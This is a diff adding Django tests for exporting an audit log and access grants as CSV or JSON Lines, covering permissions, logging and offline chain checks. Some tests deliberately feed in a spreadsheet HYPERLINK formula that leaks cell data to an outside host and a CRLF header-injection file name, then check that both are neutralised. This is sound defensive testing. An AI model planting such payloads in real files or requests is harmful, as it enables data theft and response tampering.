@@ -1,0 +1,116 @@
+"""The audit log and the grants as files: what is in them, who may take them, and that taking them is told."""
+
+import csv
+import io
+import json
+import re
+
+import pytest
+from django.core.management import call_command
+
+from enrollment import chain, lifecycle
+from enrollment.models import AuditEvent, Resource
+from tests import factories
+
+BOTH = ("auditevent", "grant")
+
+
+def taken(client, url, model, kind, query=""):
+    response = client.post(url(f"{model}_export") + query, {"as": kind})
+    return response, response.getvalue().decode("utf-8-sig" if kind == "csv" else "utf-8")
+
+
+def told():
+    return AuditEvent.objects.filter(verb="audit.exported")
+
+
+def test_an_auditor_takes_the_log_as_json_and_it_verifies_offline(browse, carol, granted, url):
+    count = AuditEvent.objects.count()
+    _response, text = taken(browse(carol), url, "auditevent", "jsonl")
+    rows = list(chain.read_export(text.splitlines()))
+    assert [row["seq"] for row in rows] == list(range(1, count + 1))
+    assert chain.check(rows, (), from_start=True).problems == []
+
+
+def test_taking_it_is_an_event_that_says_who_what_and_how_many(browse, carol, granted, url):
+    taken(browse(carol), url, "auditevent", "csv", "?verb=grant.made")
+    event = told().get()
+    assert (event.actor_id, event.data) == (carol.pk, {"what": "audit", "as": "csv", "filter": "verb=grant.made", "rows": 1})
+
+
+@pytest.fixture
+def ended(erin, fileshare, bob, now):
+    """What erin had, until bob ended it."""
+    grant = factories.a_grant(erin, fileshare, [factories.a_device(erin)], reviewer=bob, now=now)
+    lifecycle.revoke(grant, actor=bob, reason="enough", now=now)
+    return grant
+
+
+def test_a_file_holds_what_the_list_shows(browse, dave, granted, ended, url):
+    admin = browse(dave)
+    everything = [json.loads(line) for line in taken(admin, url, "grant", "jsonl", "?standing=all")[1].splitlines()]
+    over = [json.loads(line) for line in taken(admin, url, "grant", "jsonl", "?standing=ended")[1].splitlines()]
+    searched = [json.loads(line) for line in taken(admin, url, "grant", "jsonl", "?q=alice")[1].splitlines()]
+    assert [row["user"] for row in everything] == ["Alice", "Erin"]
+    assert [(row["user"], row["end_reason"], row["ended_by"]) for row in over] == [("Erin", "enough", "Bob")]
+    assert [(row["user"], row["resource"], row["devices"]) for row in searched] == [("Alice", "fileshare", ["laptop"])]
+
+
+def test_a_spreadsheet_finds_no_formula_in_what_people_typed(browse, carol, alice, laptop, fileshare, bob, now, url):
+    Resource.objects.update(name="=1+1")
+    reason = '=HYPERLINK("http://example.com?"&A1,"click")\n-2;@x'
+    asked = factories.a_request(alice, fileshare, [laptop], now=now, reason=reason)
+    lifecycle.approve(asked, reviewer=bob, now=now)
+    for model in BOTH:
+        response, text = taken(browse(carol), url, model, "csv")
+        assert response["Content-Type"] == "text/csv; charset=utf-8"
+        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+        assert [cell for cell in cells if re.match(r"\s*[=+\-@]", cell)] == []
+        assert any("HYPERLINK" in cell for cell in cells)
+
+
+def test_the_files_name_is_ours_alone(browse, carol, granted, url):
+    Resource.objects.update(name='x"; filename="evil.exe\r\nX-Evil: 1')
+    response, _text = taken(browse(carol), url, "grant", "csv", "?q=%22%0d%0aX-Evil:%201")
+    assert re.fullmatch(r'attachment; filename="lychgate-grants-\d{8}T\d{6}Z\.csv"', response["Content-Disposition"])
+    assert "X-Evil" not in response
+
+
+@pytest.mark.parametrize("model", BOTH)
+def test_looking_at_the_page_takes_nothing_and_says_how_many(model, browse, carol, granted, url, words, everything):
+    client = browse(carol)
+    before, page = everything(), words(client.get(url(f"{model}_export")))
+    assert re.search(r"(One row|\d+ rows), as the list was filtered\.", page)
+    assert everything() == before
+
+
+@pytest.mark.parametrize(("name", "status"), [("bob", 403), ("alice", 302), ("erin", 302)])
+def test_nobody_else_takes_a_file(name, status, request, browse, granted, url):
+    client = browse(request.getfixturevalue(name))
+    assert {client.post(url(f"{model}_export"), {"as": "csv"}).status_code for model in BOTH} == {status}
+    assert not told().exists()
+
+
+@pytest.mark.parametrize("kind", ["", "xls", "../csv"])
+def test_another_kind_of_file_is_the_page_again(kind, browse, carol, granted, url, words):
+    assert "JSON Lines" in words(browse(carol).post(url("grant_export"), {"as": kind}))
+    assert not told().exists()
+
+
+@pytest.mark.parametrize(("query", "status"), [("?verb__regex=(", 400), ("?at__year=abc", 302)])
+def test_an_address_that_no_filter_wrote_takes_nothing(query, status, browse, carol, granted, url):
+    assert browse(carol).post(url("auditevent_export") + query, {"as": "csv"}).status_code == status
+    assert not told().exists()
+
+
+def test_a_list_costs_as_many_queries_for_many_rows(browse, carol, granted, url, django_assert_max_num_queries):
+    client = browse(carol)
+    with django_assert_max_num_queries(20):
+        taken(client, url, "grant", "csv")
+
+
+def test_the_command_writes_csv_too_and_says_so_in_the_log(granted, capsys):
+    call_command("audit", "export", "--csv")
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out.removeprefix("\ufeff"), newline="")))
+    assert [int(row["seq"]) for row in rows] == list(range(1, told().get().seq))
+    assert (told().get().actor, told().get().data["rows"]) == ("the system", len(rows))
